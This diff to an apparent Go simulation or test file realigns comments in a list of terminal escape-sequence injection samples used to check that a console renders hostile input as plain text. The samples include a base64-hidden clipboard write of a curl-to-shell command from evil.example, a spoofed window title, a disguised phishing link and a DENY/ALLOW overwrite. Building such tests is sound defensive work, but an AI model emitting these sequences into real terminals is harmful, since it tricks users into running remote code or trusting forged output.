@@ -4,8 +4,8 @@ package sim
 // name, a display name) carrying terminal controls. Hostile mode mixes them
 // into the seed data; the console must show them as plain text.
 var Attacks = []string{
-	"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07",  // OSC 52: write the clipboard
-	"\x1b]0;root@jump: all clear\x07",                              // OSC 0: set the window title
+	"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07",       // OSC 52: write the clipboard
+	"\x1b]0;root@jump: all clear\x07",                                  // OSC 0: set the window title
 	"\x1b]8;;https://evil.example/login\x1b\\click here\x1b]8;;\x1b\\", // OSC 8: a disguised link
 	"\x1b[2J\x1b[H",            // CSI: clear the screen, cursor home
 	"DENY\rALLOW",              // carriage return overwrite
